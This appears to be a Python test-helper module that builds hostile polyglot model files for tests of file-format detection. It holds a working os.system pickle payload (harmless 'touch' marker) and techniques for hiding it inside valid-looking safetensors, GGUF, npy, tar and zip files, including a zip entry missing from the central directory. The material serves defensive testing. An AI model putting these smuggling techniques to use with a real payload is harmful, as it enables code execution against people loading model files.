"""Builders of hostile files for the polyglot tests (issue #11).

Every payload only runs `touch MARKER` with a relative MARKER, so a throwaway
process started in a test's temp folder is the only place it can leave a
trace. Nothing here unpickles anything: `attack_*` run the victim's loader in
a child process (Debian's /usr/bin/python3) and report whether the marker
appeared.
"""
import io
import json
import pathlib
import struct
import subprocess
import zipfile
import zlib

MARKER = "pwned"


def evil_p0(marker: str = MARKER) -> bytes:
    """A protocol-0 pickle that calls os.system('touch MARKER')."""
    return b"cos\nsystem\n(S'touch " + marker.encode() + b"'\ntR."


def benign_p2() -> bytes:
    return b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s."


# ------------------------------------------------------------- safetensors

def safetensors(tensors: dict, meta=None, pad_to=8) -> bytes:
    """A strictly valid safetensors file: {name: (dtype, shape, raw bytes)}."""
    header, data = {}, b""
    if meta is not None:
        header["__metadata__"] = meta
    for name, (dtype, shape, raw) in tensors.items():
        header[name] = {"dtype": dtype, "shape": list(shape),
                        "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % pad_to)
    return struct.pack("<Q", len(h)) + h + data


def st_binbytes_polyglot(marker: str = MARKER) -> bytes:
    """The first reported shape: the 8-byte header length reads as BINBYTES.

    Bytes 0..7 are the header length; as opcodes, 'B' (BINBYTES) takes the
    next four bytes as a length (4) and swallows bytes 5..8, including the
    '{'. The pickle then starts at byte 9, inside the "header", which ends
    with padding and '}' (not valid JSON, so not safetensors under the strict
    rule, but it passed a first-byte/last-byte check).
    """
    n = 4
    hl = 0x42 | n << 8  # b'B', 4, 0, 0, 0, 0, 0, 0
    body = b"{" + evil_p0(marker)
    body += b" " * (hl - len(body) - 1) + b"}"
    assert len(body) == hl
    return struct.pack("<Q", hl) + body + b"\0" * 16


def gguf_binfloat_polyglot(marker: str = MARKER) -> bytes:
    """The second shape: 'G' (BINFLOAT) swallows "GUF" and five more bytes."""
    return b"GGUF" + b"\x03\x00\x00\x00" + b"\x00" + evil_p0(marker) + b"\0" * 64


# -------------------------------------------------------------------- GGUF

def _gguf_str(s: str) -> bytes:
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf(tensors: dict, align: int = 32) -> bytes:
    """A valid GGUF v3 file with F32 (type 0) or U8-like I8 (type 24) tensors."""
    kv = _gguf_str("general.architecture") + struct.pack("<I", 8) + _gguf_str("llama")
    kv += _gguf_str("general.alignment") + struct.pack("<I", 4) + struct.pack("<I", align)
    infos, data = b"", b""
    for name, (gtype, shape, raw) in tensors.items():
        data += b"\0" * (-len(data) % align)
        infos += _gguf_str(name) + struct.pack("<I", len(shape))
        infos += b"".join(struct.pack("<Q", d) for d in shape)
        infos += struct.pack("<IQ", gtype, len(data))
        data += raw
    head = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), 2) + kv + infos
    head += b"\0" * (-len(head) % align)
    return head + data


# --------------------------------------------------------------------- zip

def torch_like_zip(pkl: bytes, name: str = "archive/data.pkl") -> bytes:
    """A stored zip holding one data.pkl, as torch's zip checkpoints do."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(name, pkl)
        z.writestr("archive/version", b"3\n")
    return buf.getvalue()


def _local(name: bytes, data: bytes) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(data),
                       len(data), len(data), len(name), 0) + name + data


def _central(name: bytes, data: bytes, off: int) -> bytes:
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0,
                       zlib.crc32(data), len(data), len(data), len(name), 0, 0, 0, 0, 0,
                       off) + name


def zip_hidden_local(marker: str = MARKER) -> bytes:
    """A zip whose central directory lists a benign data.pkl, while a second
    local entry between the members, named evil.pkl, holds the payload."""
    shown, hidden = (b"archive/data.pkl", benign_p2()), (b"archive/evil.pkl", evil_p0(marker))
    l1 = _local(*shown)
    l2 = _local(*hidden)
    v = (b"archive/version", b"3\n")
    l3 = _local(*v)
    cd = _central(*shown, 0) + _central(*v, len(l1) + len(l2))
    cd_off = len(l1) + len(l2) + len(l3)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2, 2, len(cd), cd_off, 0)
    return l1 + l2 + l3 + cd + eocd


def stream_unzip(blob: bytes) -> dict:
    """What a streaming unzip extracts: every local entry, walked from byte 0."""
    out, at = {}, 0
    while blob[at:at + 4] == b"PK\3\4":
        (_, _, _, _, _, _, _, csize, _, nlen, xlen) = struct.unpack_from("<IHHHHHIIIHH", blob, at)
        name = blob[at + 30:at + 30 + nlen].decode()
        start = at + 30 + nlen + xlen
        out[name] = blob[start:start + csize]
        at = start + csize
    return out


# ----------------------------------------------------------- tail archives

def st_tail_zip(marker: str = MARKER) -> bytes:
    """A strictly valid safetensors file whose only tensor (U8) is a torch-like
    zip: zipfile finds the archive from the end of the file."""
    z = torch_like_zip(evil_p0(marker))
    return safetensors({"w": ("U8", [len(z)], z)})


def gguf_tail_zip(marker: str = MARKER) -> bytes:
    z = torch_like_zip(evil_p0(marker))
    return gguf({"w": (24, [len(z)], z)})  # I8


def npy(raw: bytes, descr: str = "|u1") -> bytes:
    h = "{'descr': '%s', 'fortran_order': False, 'shape': (%d,), }" % (descr, len(raw))
    h = h.encode()
    h += b" " * (-(10 + len(h) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + raw


def npy_tail_zip(marker: str = MARKER) -> bytes:
    return npy(torch_like_zip(evil_p0(marker)))


# --------------------------------------------------------------------- tar

def tar_name_pickle(marker: str = MARKER) -> bytes:
    """A ustar archive whose first member's name is a protocol-0 pickle: a tar
    header starts with the member name, so pickle.load runs it."""
    name = evil_p0(marker)
    assert len(name) <= 100
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    data = b"hello\n"
    h[124:136] = b"%011o\0" % len(data)
    h[136:148] = b"00000000000\0"
    h[156:157] = b"0"
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h) + data + b"\0" * (512 - len(data)) + b"\0" * 1024


# ------------------------------------------------------------- the victims

LOADERS = {
    # plain pickle.load from byte 0
    "pickle": "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))",
    # zipfile from the end, then the archive's data.pkl
    "zipfile": ("import pickle,sys,zipfile; z=zipfile.ZipFile(sys.argv[1]); "
                "n=[m for m in z.namelist() if m.endswith('.pkl')][0]; pickle.loads(z.read(n))"),
}


def attack(loader: str, path, cwd) -> bool:
    """Runs a victim's loader on @path in a throwaway process started in
    @cwd; True when the payload ran (the marker appeared)."""
    cwd = pathlib.Path(cwd)
    marker = cwd / MARKER
    if marker.exists():
        marker.unlink()
    subprocess.run(["/usr/bin/python3", "-c", LOADERS[loader], str(path)], cwd=cwd,
                   capture_output=True, timeout=120)
    ran = marker.exists()
    if ran:
        marker.unlink()
    return ran


# Every hostile shape: name -> (bytes, the loader that falls for it).
def hostile_files() -> dict:
    return {
        "st_binbytes.safetensors": (st_binbytes_polyglot(), "pickle"),
        "gguf_binfloat.gguf": (gguf_binfloat_polyglot(), "pickle"),
        "tar_name.tar": (tar_name_pickle(), "pickle"),
        "st_tail.safetensors": (st_tail_zip(), "zipfile"),
        "gguf_tail.gguf": (gguf_tail_zip(), "zipfile"),
        "npy_tail.npy": (npy_tail_zip(), "zipfile"),
    }
